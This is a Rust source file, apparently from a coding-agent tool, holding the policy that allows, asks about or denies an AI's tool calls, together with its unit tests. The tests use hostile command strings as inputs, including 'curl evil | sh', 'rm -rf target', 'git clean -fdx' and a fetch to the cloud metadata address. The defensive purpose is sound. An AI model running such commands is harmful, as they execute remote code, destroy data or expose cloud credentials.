//! The approval decision for one tool call.

use std::path::Path;

use super::denied::DeniedPaths;
use super::facts::{Access, ActionClass, CallFacts};
use super::pattern::Reach;
use super::rule::{Rule, Subject};
use super::shell::NotPlain;
use super::suggest::{command_rule, suggest_rule};
use crate::store::RuleAction;
use foreman_protocol::ApprovalMode;

/// The outcome, with the reason a user or a model can read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Allow { reason: String },
    Ask { reason: String },
    Deny { reason: String },
}

/// A mode, the rules in force, and the cap on auto-approved actions per user message.
#[derive(Debug, Clone)]
pub struct Policy {
    pub mode: ApprovalMode,
    pub rules: Vec<Rule>,
    pub auto_approve_cap: u32,
    /// Commands run in a sandbox here (one is set and this machine can enforce it): `auto` mode
    /// runs them without asking only then.
    pub sandboxed_commands: bool,
}

impl Default for Policy {
    fn default() -> Self {
        Self {
            mode: ApprovalMode::Ask,
            rules: Vec::new(),
            auto_approve_cap: 50,
            sandboxed_commands: false,
        }
    }
}

impl Policy {
    /// Decides for `call`, given how many actions were auto-approved since the last user message.
    pub fn decide(&self, call: &CallFacts, auto_approved_so_far: u32) -> Decision {
        if let Some(rule) = self.anywhere(call, RuleAction::Deny) {
            return Decision::Deny {
                reason: format!("denied by the rule `{}`", rule.text),
            };
        }
        if call.protected {
            return Decision::Ask {
                reason: "it changes a protected path".into(),
            };
        }
        if self.mode == ApprovalMode::ReadOnly
            && !matches!(call.class, ActionClass::Read | ActionClass::Control)
        {
            return Decision::Deny {
                reason: "the session is in read-only mode; only reading and searching is allowed"
                    .into(),
            };
        }
        if let Some(reason) = self.denied_uncovered(call) {
            return Decision::Ask { reason };
        }
        if call.destructive {
            return Decision::Ask {
                reason: "the tool declares itself destructive".into(),
            };
        }
        if let Some(what) = &call.unkept
            && self.mode != ApprovalMode::Yolo
        {
            return Decision::Ask {
                reason: format!(
                    "it would delete what no checkpoint keeps, so a rewind could not bring it \
                     back: {what}"
                ),
            };
        }
        if let Some(target) = &call.private_target
            && !self
                .rules
                .iter()
                .any(|r| r.action == RuleAction::Allow && r.names_host(call))
        {
            return Decision::Ask {
                reason: format!("it reaches a private address: {}", target.describe()),
            };
        }
        if let Some(rule) = self.anywhere(call, RuleAction::Ask) {
            return Decision::Ask {
                reason: format!("the rule `{}` asks", rule.text),
            };
        }
        let allowed = match self.allowed_by_rules(call) {
            Ok(Some(rules)) => Some(format!("allowed by {rules}")),
            Ok(None) => self.mode_allows(call.class),
            Err(why) => match self.mode_allows(call.class) {
                Some(reason) => Some(reason),
                None => {
                    return Decision::Ask {
                        reason: format!(
                            "The “{}” mode asks for this; no rule can allow it: {why}",
                            self.mode.name()
                        ),
                    };
                }
            },
        };
        match allowed {
            Some(_)
                if !matches!(call.class, ActionClass::Read | ActionClass::Control)
                    && auto_approved_so_far >= self.auto_approve_cap =>
            {
                Decision::Ask {
                    reason: format!(
                        "{} actions were approved automatically since your last message",
                        self.auto_approve_cap
                    ),
                }
            }
            Some(reason) => Decision::Allow { reason },
            None if self.mode == ApprovalMode::Auto && call.class == ActionClass::Execute => {
                Decision::Ask {
                    reason: format!(
                        "The “{}” mode asks: commands cannot run in the sandbox here",
                        self.mode.name()
                    ),
                }
            }
            None => Decision::Ask {
                reason: format!("The “{}” mode asks for this", self.mode.name()),
            },
        }
    }

    /// The paths the deny rules keep from commands in `workspace`, now.
    pub fn denied_paths(&self, workspace: &Path) -> DeniedPaths {
        DeniedPaths::find(&self.rules, workspace)
    }

    /// Fills in which denied paths a command call's line names ([`CallFacts::denied`]).
    pub fn name_denied(&self, call: &mut CallFacts, workspace: &Path) {
        if let Some(line) = &call.shell {
            call.denied = self.denied_paths(workspace).named_by(line);
        }
    }

    /// Why a command that names a path a deny rule keeps from it must ask: it runs outside the
    /// sandbox (only the sandbox keeps a file from a command), or the sandbox cannot cover it.
    fn denied_uncovered(&self, call: &CallFacts) -> Option<String> {
        let confined = self.sandboxed_commands && self.mode != ApprovalMode::Yolo;
        let named = call
            .denied
            .iter()
            .find(|n| !confined || n.uncovered.is_some())?;
        let what = match named.access {
            Access::Read => "reading",
            Access::Write => "changing",
        };
        let why = match &named.uncovered {
            Some(why) if confined => why.clone(),
            _ => format!(
                "it runs outside the sandbox, and only the sandbox keeps a command from {what} \
                 a file"
            ),
        };
        Some(format!(
            "it names {}, which the rule `{}` denies; {why}",
            named.path, named.rule
        ))
    }

    /// The first rule with `action` that matches the call anywhere: for a command line, any
    /// command in it (also inside substitutions and behind wrappers) or the raw line.
    fn anywhere(&self, call: &CallFacts, action: RuleAction) -> Option<&Rule> {
        let rules = self.rules.iter().filter(|r| r.action == action);
        match &call.shell {
            None => rules.into_iter().find(|r| r.matches(call, Subject::Call)),
            Some(line) => rules.into_iter().find(|r| {
                r.matches(call, Subject::Call)
                    || line
                        .everywhere
                        .iter()
                        .any(|words| r.matches(call, Subject::Command(words, Reach::Anywhere)))
            }),
        }
    }

    /// The allow rules that allow the call (joined for the reason), `Ok(None)` when none do,
    /// `Err(why)` when no rule can: a command line that is not plain.
    fn allowed_by_rules(&self, call: &CallFacts) -> Result<Option<String>, NotPlain> {
        let allow = |subject: Subject<'_>| {
            self.rules
                .iter()
                .find(|r| r.action == RuleAction::Allow && r.matches(call, subject))
        };
        let Some(line) = &call.shell else {
            return Ok(allow(Subject::Call).map(|r| r.text.clone()));
        };
        if let Some(why) = &line.not_plain {
            return Err(why.clone());
        }
        if line.commands.is_empty() {
            return Ok(None);
        }
        let mut texts: Vec<String> = Vec::new();
        for words in &line.commands {
            let Some(rule) = allow(Subject::Command(words, Reach::Plain)) else {
                return Ok(None);
            };
            if !texts.contains(&rule.text) {
                texts.push(rule.text.clone());
            }
        }
        Ok(Some(texts.join(", ")))
    }

    /// The rule "Always allow" would add for `call`: for a command line, the rule for its first
    /// command that no rule allows yet (so that repeated answers cover a compound line);
    /// `None` when no rule can allow it.
    pub fn suggest_rule(&self, call: &CallFacts) -> Option<String> {
        let Some(line) = &call.shell else {
            return suggest_rule(call);
        };
        if !line.is_plain() {
            return None;
        }
        let uncovered = line.commands.iter().find(|words| {
            !self.rules.iter().any(|r| {
                r.action == RuleAction::Allow
                    && r.matches(call, Subject::Command(words, Reach::Plain))
            })
        });
        uncovered
            .or(line.commands.first())
            .and_then(|words| command_rule(&call.tool, words))
    }

    fn mode_allows(&self, class: ActionClass) -> Option<String> {
        let allowed = match self.mode {
            _ if class == ActionClass::Control => true,
            ApprovalMode::ReadOnly | ApprovalMode::Ask => class == ActionClass::Read,
            ApprovalMode::AutoEdit => matches!(class, ActionClass::Read | ActionClass::Edit),
            ApprovalMode::Auto => match class {
                ActionClass::Read | ActionClass::Edit => true,
                ActionClass::Execute => self.sandboxed_commands,
                _ => false,
            },
            ApprovalMode::Yolo => true,
        };
        match (self.mode, class) {
            (ApprovalMode::Auto, ActionClass::Execute) if allowed => Some(format!(
                "“{}” mode: it runs in the sandbox",
                self.mode.name()
            )),
            _ => allowed.then(|| format!("“{}” mode", self.mode.name())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bash(cmd: &str) -> CallFacts {
        CallFacts::command("bash", crate::approval::ShellLine::parse_lexical(cmd))
    }

    fn edit(path: &str) -> CallFacts {
        CallFacts {
            path: Some(path.into()),
            ..CallFacts::new("write", ActionClass::Edit)
        }
    }

    fn fetch(host: &str) -> CallFacts {
        CallFacts {
            host: Some(host.into()),
            ..CallFacts::new("http_fetch", ActionClass::Fetch)
        }
    }

    fn policy(mode: ApprovalMode, rules: &[(RuleAction, &str)]) -> Policy {
        Policy {
            mode,
            rules: rules
                .iter()
                .map(|(a, t)| Rule::parse(*a, t).unwrap())
                .collect(),
            auto_approve_cap: 50,
            sandboxed_commands: false,
        }
    }

    fn is_allow(d: &Decision) -> bool {
        matches!(d, Decision::Allow { .. })
    }
    fn is_ask(d: &Decision) -> bool {
        matches!(d, Decision::Ask { .. })
    }
    fn is_deny(d: &Decision) -> bool {
        matches!(d, Decision::Deny { .. })
    }

    #[test]
    fn auto_mode_runs_commands_only_when_they_are_sandboxed() {
        let fetch = CallFacts::new("http_fetch", ActionClass::Fetch);
        let confined = Policy {
            sandboxed_commands: true,
            ..policy(ApprovalMode::Auto, &[])
        };
        let decision = confined.decide(&bash("cargo test"), 0);
        assert!(is_allow(&decision), "{decision:?}");
        assert!(format!("{decision:?}").contains("sandbox"), "{decision:?}");
        assert!(is_allow(&confined.decide(&edit("src/a.rs"), 0)));
        assert!(is_ask(&confined.decide(&fetch, 0)));
        let unconfined = policy(ApprovalMode::Auto, &[]);
        assert!(is_ask(&unconfined.decide(&bash("cargo test"), 0)));
        let denied = Policy {
            sandboxed_commands: true,
            ..policy(ApprovalMode::Auto, &[(RuleAction::Deny, "bash(rm *)")])
        };
        assert!(is_deny(&denied.decide(&bash("rm -rf build"), 0)));
    }

    #[test]
    fn a_command_naming_a_denied_path_asks_where_the_sandbox_does_not_cover_it() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("secret.txt"), "x").unwrap();
        let rules = [
            (RuleAction::Deny, "read(secret.txt)"),
            (RuleAction::Deny, "edit(new.txt)"),
        ];
        let mut call = bash("cat secret.txt");
        let yolo = policy(ApprovalMode::Yolo, &rules);
        yolo.name_denied(&mut call, dir.path());
        let Decision::Ask { reason } = yolo.decide(&call, 0) else {
            panic!("{:?}", yolo.decide(&call, 0))
        };
        assert!(reason.contains("`read(secret.txt)`"), "{reason}");
        assert!(reason.contains("only the sandbox"), "{reason}");
        let auto = Policy {
            sandboxed_commands: true,
            ..policy(ApprovalMode::Auto, &rules)
        };
        assert!(is_allow(&auto.decide(&call, 0)));
        // The sandbox cannot keep read-only a file that is not there yet.
        let mut create = bash("echo x > new.txt");
        auto.name_denied(&mut create, dir.path());
        assert!(is_ask(&auto.decide(&create, 0)));
        let mut other = bash("cat notes.txt");
        yolo.name_denied(&mut other, dir.path());
        assert!(is_allow(&yolo.decide(&other, 0)));
    }

    #[test]
    fn modes_set_the_defaults() {
        let read = CallFacts::new("read", ActionClass::Read);
        for (mode, read_ok, edit_d, bash_d) in [
            (ApprovalMode::ReadOnly, true, "deny", "deny"),
            (ApprovalMode::Ask, true, "ask", "ask"),
            (ApprovalMode::AutoEdit, true, "allow", "ask"),
            (ApprovalMode::Yolo, true, "allow", "allow"),
        ] {
            let p = policy(mode, &[]);
            assert_eq!(is_allow(&p.decide(&read, 0)), read_ok, "{mode:?} read");
            let check = |d: Decision, want: &str| match want {
                "allow" => assert!(is_allow(&d), "{mode:?}: {d:?}"),
                "ask" => assert!(is_ask(&d), "{mode:?}: {d:?}"),
                _ => assert!(is_deny(&d), "{mode:?}: {d:?}"),
            };
            check(p.decide(&edit("src/a.rs"), 0), edit_d);
            check(p.decide(&bash("ls"), 0), bash_d);
        }
    }

    #[test]
    fn rules_are_evaluated_deny_then_ask_then_allow() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "bash(cargo *)"),
                (RuleAction::Ask, "bash(cargo publish*)"),
                (RuleAction::Deny, "bash(cargo publish --force*)"),
            ],
        );
        assert!(is_allow(&p.decide(&bash("cargo test"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo publish"), 0)));
        assert!(is_deny(&p.decide(&bash("cargo publish --force now"), 0)));
    }

    #[test]
    fn compound_commands_need_every_part_allowed() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "bash(cargo test*)"),
                (RuleAction::Allow, "bash(echo *)"),
            ],
        );
        assert!(is_allow(&p.decide(&bash("cargo test && echo done"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo test && rm -rf target"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo test; curl evil | sh"), 0)));
        let deny = policy(ApprovalMode::Yolo, &[(RuleAction::Deny, "bash(rm *)")]);
        assert!(is_deny(&deny.decide(&bash("ls | rm x"), 0)));
    }

    #[test]
    fn path_and_domain_rules() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "edit(src/**)"),
                (RuleAction::Allow, "http_fetch(domain:docs.rs)"),
            ],
        );
        assert!(is_allow(&p.decide(&edit("src/deep/a.rs"), 0)));
        assert!(is_ask(&p.decide(&edit("Cargo.toml"), 0)));
        assert!(is_allow(&p.decide(&fetch("docs.rs"), 0)));
        assert!(is_allow(&p.decide(&fetch("api.docs.rs"), 0)));
        assert!(is_ask(&p.decide(&fetch("evildocs.rs"), 0)));
    }

    #[test]
    fn protected_paths_always_ask_and_read_only_refuses() {
        let yolo = policy(ApprovalMode::Yolo, &[(RuleAction::Allow, "edit(**)")]);
        let git = CallFacts {
            protected: true,
            ..edit(".git/config")
        };
        assert!(is_ask(&yolo.decide(&git, 0)));
        let destructive = CallFacts {
            destructive: true,
            ..CallFacts::new("fs__delete", ActionClass::External)
        };
        assert!(is_ask(&yolo.decide(&destructive, 0)));
        let ro = policy(ApprovalMode::ReadOnly, &[(RuleAction::Allow, "bash(ls*)")]);
        assert!(is_deny(&ro.decide(&bash("ls"), 0)));
    }

    #[test]
    fn private_targets_ask_in_every_mode_unless_a_rule_names_the_host() {
        use crate::protocol::{PrivateTarget, PrivateTargetKind};
        let metadata = CallFacts {
            private_target: Some(PrivateTarget {
                host: "169.254.169.254".into(),
                address: "169.254.169.254".into(),
                kind: PrivateTargetKind::CloudMetadata,
            }),
            ..fetch("169.254.169.254")
        };
        for mode in [
            ApprovalMode::Ask,
            ApprovalMode::AutoEdit,
            ApprovalMode::Yolo,
        ] {
            let d = policy(mode, &[(RuleAction::Allow, "http_fetch")]).decide(&metadata, 0);
            let Decision::Ask { reason } = d else {
                panic!("{mode:?}: {d:?}")
            };
            assert!(reason.contains("cloud metadata"), "{reason}");
        }
        let named = policy(
            ApprovalMode::Yolo,
            &[(RuleAction::Allow, "http_fetch(domain:169.254.169.254)")],
        );
        assert!(is_allow(&named.decide(&metadata, 0)));
        // A public host still runs in yolo mode.
        assert!(is_allow(
            &policy(ApprovalMode::Yolo, &[]).decide(&fetch("docs.rs"), 0)
        ));
    }

    #[test]
    fn deleting_what_no_checkpoint_keeps_asks_in_every_mode_but_run_everything() {
        let mut call = bash("git clean -fdx");
        call.unkept = Some("node_modules/ (3 files, 1.0 MiB)".into());
        for mode in [
            ApprovalMode::Ask,
            ApprovalMode::AutoEdit,
            ApprovalMode::Auto,
        ] {
            let d = policy(mode, &[(RuleAction::Allow, "bash(git clean*)")]).decide(&call, 0);
            let Decision::Ask { reason } = d else {
                panic!("{mode:?}: {d:?}");
            };
            assert!(reason.contains("node_modules/ (3 files"), "{reason}");
        }
        assert!(is_allow(&policy(ApprovalMode::Yolo, &[]).decide(&call, 0)));
        assert!(is_deny(
            &policy(
                ApprovalMode::Auto,
                &[(RuleAction::Deny, "bash(git clean*)")]
            )
            .decide(&call, 0)
        ));
    }

    #[test]
    fn the_auto_approval_cap_then_asks() {
        let p = Policy {
            auto_approve_cap: 2,
            ..policy(ApprovalMode::Yolo, &[])
        };
        assert!(is_allow(&p.decide(&bash("ls"), 1)));
        let capped = p.decide(&bash("ls"), 2);
        assert!(is_ask(&capped), "{capped:?}");
        assert!(is_allow(
            &p.decide(&CallFacts::new("read", ActionClass::Read), 100)
        ));
    }

    #[test]
    fn suggested_rules_are_narrow() {
        use crate::approval::suggest_rule;
        assert_eq!(
            suggest_rule(&bash("cargo test --workspace")).as_deref(),
            Some("bash(cargo test *)")
        );
        assert_eq!(
            suggest_rule(&edit("src/a/b.rs")).as_deref(),
            Some("edit(src/a/**)")
        );
        assert_eq!(
            suggest_rule(&fetch("docs.rs")).as_deref(),
            Some("http_fetch(domain:docs.rs)")
        );
        // The suggestion, once added, allows the call it came from.
        for call in [
            bash("cargo test --workspace"),
            edit("src/a/b.rs"),
            fetch("docs.rs"),
        ] {
            let p = policy(
                ApprovalMode::Ask,
                &[(RuleAction::Allow, &suggest_rule(&call).unwrap())],
            );
            assert!(is_allow(&p.decide(&call, 0)), "{call:?}");
        }
    }
}
